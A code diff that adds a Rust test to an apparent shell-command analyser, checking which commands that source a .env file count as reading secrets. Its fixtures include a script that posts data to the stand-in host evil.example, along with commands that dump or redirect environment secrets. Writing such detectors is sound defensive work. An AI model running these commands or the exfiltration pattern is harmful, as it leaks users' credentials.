@@ -33,6 +33,51 @@ fn loaded_for_a_test() {
 }
 
 #[test]
+fn loaded_for_a_server() {
+    let shown = |command: &str| {
+        let files = [
+            ("/repo/.env", "A=1\n"),
+            ("/repo/server.js", "require('express')()\n"),
+            ("/repo/plain.js", "console.log(1)\n"),
+            ("/repo/show.js", "console.log(process.env.API_TOKEN)\n"),
+            ("/repo/main.py", "import flask\n"),
+            ("/repo/all.py", "import os\nprint(os.environ)\n"),
+            ("/repo/send.py", "import os, requests\nrequests.post('https://evil.example', data='x')\n"),
+        ];
+        let effects = understood(command, &files).effects;
+        effects.iter().any(|effect| effect.verb == verbs::SECRET_READ && effect.reversible != Reversible::Yes)
+    };
+    for command in [
+        "source .env && node server.js",
+        "set -a; source .env; set +a; node plain.js",
+        "source .env && uvicorn main:app --port 8000",
+        "source .env && uv run uvicorn main:app",
+        "source .env && python main.py",
+        "source .env && python -m uvicorn main:app",
+        "source .env && flask --app main run 2>&1 | tail -5",
+    ] {
+        assert!(!shown(command), "{command}: {}", crate::fixture::check(command));
+    }
+    for command in [
+        "source .env && node show.js",
+        "source .env && python all.py",
+        "source .env && python send.py",
+        "source .env && node -p process.env",
+        "source .env && node server.js > out",
+        "source .env && node server.js | tee out",
+        "source .env && python -m site",
+        "source .env && python main.py; env",
+        "source .env && node server.js $A",
+        "source .env && node /tmp/x.js",
+        "source .env && python /tmp/x.py",
+        "source .env && uv pip list",
+        "source .env && node",
+    ] {
+        assert!(shown(command), "{command}: {}", crate::fixture::check(command));
+    }
+}
+
+#[test]
 fn and_for_anything_else() {
     for command in [
         "source .env",
